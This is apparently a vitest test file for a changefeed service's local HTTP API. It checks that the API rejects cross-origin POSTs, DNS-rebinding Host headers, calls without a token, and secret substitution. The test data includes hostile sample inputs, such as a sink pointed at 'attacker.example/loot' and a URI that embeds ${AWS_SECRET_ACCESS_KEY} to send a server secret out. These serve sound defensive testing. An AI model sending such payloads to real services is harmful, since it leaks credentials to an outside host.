/**
 * The HTTP API against a web page in the user's browser (issue 10, item 18): a cross-origin
 * `text/plain` POST, DNS rebinding (a foreign Host), and mutating calls without the token.
 */
import { describe, expect, it } from 'vitest';
import { request } from 'node:http';
import { existsSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { http, LogCapture, startTestServer, tempDataDir } from './server-harness.ts';

/** A raw request with exactly these headers (fetch would set Host and Origin itself). */
function raw(
  url: string,
  method: string,
  headers: Record<string, string>,
  body?: string,
): Promise<{ status: number; text: string }> {
  const u = new URL(url);
  return new Promise((resolve, reject) => {
    const req = request(
      { host: u.hostname, port: u.port, path: u.pathname + u.search, method, headers, setHost: false },
      (res) => {
        let text = '';
        res.on('data', (d: Buffer) => (text += d.toString()));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

const FEED = JSON.stringify({
  id: 'attacker',
  source: 'postgres://u:p@127.0.0.1:1/app',
  sink: 'postgres://u:p@attacker.example:5432/loot',
  tables: ['public.t'],
});

describe('HTTP API: callers from a web page', () => {
  it('refuses a browser-style cross-origin text/plain POST and creates nothing', async () => {
    const server = await startTestServer({ port: 0, auth: 'none' });
    const host = new URL(server.url).host;
    const r = await raw(
      `${server.url}/api/v1/changefeeds`,
      'POST',
      { host, origin: 'http://evil.example', 'content-type': 'text/plain;charset=UTF-8' },
      FEED,
    );
    expect(r.status).toBe(403);
    expect(r.text).toContain('API_FORBIDDEN');
    expect(server.manager.list()).toEqual([]);
  });

  it('refuses a JSON-less mutating call even from the same origin', async () => {
    const server = await startTestServer({ port: 0, auth: 'none' });
    const host = new URL(server.url).host;
    const r = await raw(
      `${server.url}/api/v1/changefeeds`,
      'POST',
      { host, origin: `http://${host}`, 'content-type': 'text/plain' },
      FEED,
    );
    expect(r.status).toBe(415);
    expect(server.manager.list()).toEqual([]);
  });

  it('refuses a request whose Host is not this server (DNS rebinding)', async () => {
    const server = await startTestServer({ port: 0 });
    for (const path of ['/api/v1/changefeeds', '/metrics', '/', '/api/openapi.json']) {
      const r = await raw(`${server.url}${path}`, 'GET', { host: 'evil.example:8300' });
      expect(r.status, path).toBe(403);
    }
    const ok = await raw(`${server.url}/api/v1/changefeeds`, 'GET', { host: new URL(server.url).host });
    expect(ok.status).toBe(200);
    const byName = await raw(`${server.url}/api/v1/changefeeds`, 'GET', {
      host: `localhost:${new URL(server.url).port}`,
    });
    expect(byName.status).toBe(200);
  });

  it('requires the token for mutating calls on loopback; creates it once, mode 0600', async () => {
    const dataDir = tempDataDir();
    const logs = new LogCapture();
    const printed: string[] = [];
    const server = await startTestServer({
      port: 0,
      dataDir,
      logs,
      auth: 'auto',
      onTokenCreated: (t) => printed.push(t),
    });
    const file = join(dataDir, 'api-token');
    expect(existsSync(file)).toBe(true);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const token = readFileSync(file, 'utf8').trim();
    expect(token.length).toBeGreaterThanOrEqual(32);
    expect(printed).toEqual([token]);
    expect(logs.text).not.toContain(token);

    const host = new URL(server.url).host;
    const json = { host, 'content-type': 'application/json' };
    const without = await raw(`${server.url}/api/v1/changefeeds`, 'POST', json, FEED);
    expect(without.status).toBe(401);
    const wrong = await raw(`${server.url}/api/v1/changefeeds/x/pause`, 'POST', {
      ...json,
      authorization: 'Bearer wrong-wrong-wrong-wrong',
    });
    expect(wrong.status).toBe(401);
    expect(server.manager.list()).toEqual([]);
    // Reads stay open on loopback (the dashboard shows the state before signing in).
    expect((await raw(`${server.url}/api/v1/changefeeds`, 'GET', { host })).status).toBe(200);
    const paused = await raw(
      `${server.url}/api/v1/changefeeds?paused=true&skipChecks=true`,
      'POST',
      { ...json, authorization: `Bearer ${token}` },
      FEED,
    );
    expect(paused.status).toBe(201);
    await server.close();

    // A second start reuses the file and prints nothing.
    const again = await startTestServer({
      port: 0,
      dataDir,
      auth: 'auto',
      onTokenCreated: (t) => printed.push(t),
    });
    expect(printed).toHaveLength(1);
    expect(readFileSync(file, 'utf8').trim()).toBe(token);
    await again.close();
  });

  it('never substitutes ${VAR} from the server environment into an API body, nor echoes it', async () => {
    const secret = 'S3cret-from-the-server-env';
    const server = await startTestServer({
      port: 0,
      env: { PGPASSWORD: secret, AWS_SECRET_ACCESS_KEY: secret },
    });
    const base = `${server.url}/api/v1/changefeeds`;
    const feed = {
      id: 'leak',
      source: 'postgres://u:p@127.0.0.1:1/app',
      sink: 'postgres://u:p@127.0.0.1:1/replica',
      tables: ['public.t'],
      views: [{ name: 'x', sql: "SELECT '${PGPASSWORD}' AS x FROM t" }],
    };
    const created = await http('POST', `${base}?paused=true&skipChecks=true`, { body: feed });
    expect(created.status).toBe(201);
    const read = await http('GET', `${base}/leak`);
    expect(read.text).not.toContain(secret);
    expect(created.text).not.toContain(secret);
    // The view keeps its SQL as written.
    expect(read.text).toContain("SELECT '${PGPASSWORD}' AS x FROM t");

    // A sink URI cannot carry a server secret to another host.
    const exfiltrate = await http('POST', `${base}?paused=true`, {
      body: {
        ...feed,
        id: 'exfil',
        views: [],
        sink: 'postgres://x:${AWS_SECRET_ACCESS_KEY}@attacker.example/loot',
      },
    });
    expect(exfiltrate.status).toBe(400);
    expect(exfiltrate.text).toContain('sink');
    expect(exfiltrate.text).not.toContain(secret);
    expect(server.manager.list().map((f) => f.id)).toEqual(['leak']);
    expect(JSON.stringify(server.manager.list())).not.toContain(secret);
  });
});
